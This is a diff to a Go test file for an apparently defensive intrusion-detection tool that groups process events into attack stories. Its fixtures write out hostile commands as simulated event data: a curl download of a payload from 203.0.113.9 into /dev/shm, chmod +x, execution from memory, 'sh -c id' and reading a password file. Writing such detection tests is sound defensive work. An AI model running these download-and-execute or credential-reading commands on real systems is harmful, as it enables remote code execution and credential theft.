@@ -77,6 +77,18 @@ func oddByCron() *tape {
 	return t.odd("script", 120)
 }
 
+// download fetches /dev/shm/k and makes it executable, with other programs between the two when there are any.
+func (t *tape) download(parent string, between ...func()) {
+	t.start("curl", parent, 901, "/usr/bin/curl", "curl -so /dev/shm/k http://203.0.113.9/k")
+	t.connect("curl", "203.0.113.9:80")
+	t.write("curl", "/dev/shm/k", "77")
+	for _, f := range between {
+		f()
+	}
+	t.start("chmod", parent, 902, "/usr/bin/chmod", "chmod +x /dev/shm/k")
+	t.add(event.Event{Kind: event.FileChmod, Actor: *t.procs["chmod"], Parent: t.up("chmod"), File: event.File{Path: "/dev/shm/k", VolumeID: "0:25", FileID: "77", Mode: 0o755}})
+}
+
 // attackInCI: a real attack among the programs of a job keeps its parts together.
 func attackInCI() *tape {
 	t := newTape(hostA)
@@ -84,11 +96,7 @@ func attackInCI() *tape {
 	t.start("shell", "agent", 61, "/usr/bin/bash", "bash -l")
 	t.start("make", "shell", 62, "/usr/bin/make", "make test")
 	t.like(120, "make", 1000, "/usr/bin/stat", "stat -c %Y /srv/app")
-	t.start("curl", "make", 901, "/usr/bin/curl", "curl -so /dev/shm/k http://203.0.113.9/k")
-	t.connect("curl", "203.0.113.9:80")
-	t.write("curl", "/dev/shm/k", "77")
-	t.start("chmod", "make", 902, "/usr/bin/chmod", "chmod +x /dev/shm/k")
-	t.add(event.Event{Kind: event.FileChmod, Actor: *t.procs["chmod"], Parent: t.up("chmod"), File: event.File{Path: "/dev/shm/k", VolumeID: "0:25", FileID: "77", Mode: 0o755}})
+	t.download("make")
 	t.detect(t.startFile("payload", "make", 903, "/dev/shm/k", "/dev/shm/k", "77"), "program run from memory", detection.High, "T1059.004")
 	t.start("sh", "payload", 904, "/usr/bin/dash", "sh -c id")
 	t.start("cat", "sh", 905, "/usr/bin/cat", "cat "+passwords)
@@ -139,6 +147,24 @@ func TestStartFilesOfAShellAreNotTheScriptItBecomes(t *testing.T) {
 	}
 	s := tp.story()
 	wantMembers(t, tp, s, []string{"shell", "step0", "step1", "step2", "step3", "step4"}, nil)
+	if n := processes(s); n > 10 || s.LeftOut.Beside != 60 {
+		t.Errorf("%d processes are shown, %d counted beside; want 10 at most, 60 beside", n, s.LeftOut.Beside)
+	}
+}
+
+// What a shell ran before it became a program brought that program: the download has an edge to it, and what made it
+// executable stands beside the download, not among the start files.
+func TestWhatMadeAProgramRunnableIsInTheStoryOfTheShellThatBecameIt(t *testing.T) {
+	tp := newTape(hostA)
+	tp.start("sshd", "init", 40, "/usr/sbin/sshd", "sshd -R")
+	tp.start("shell", "sshd", 60, "/usr/bin/bash", "bash -c curl -so /dev/shm/k http://203.0.113.9/k; chmod +x /dev/shm/k; exec /dev/shm/k")
+	tp.like(60, "shell", 5000, "/usr/bin/readlink", "readlink pyenv")
+	tp.download("shell")
+	p := tp.procs["shell"]
+	p.VolumeID, p.FileID = "0:25", "77"
+	tp.detect(tp.exec("shell", "/dev/shm/k", "/dev/shm/k"), "program run from memory", detection.High)
+	s := tp.story()
+	wantMembers(t, tp, s, []string{"shell", "curl", "chmod"}, nil)
 	if n := processes(s); n > 10 || s.LeftOut.Beside != 60 {
 		t.Errorf("%d processes are shown, %d counted beside; want 10 at most, 60 beside", n, s.LeftOut.Beside)
 	}
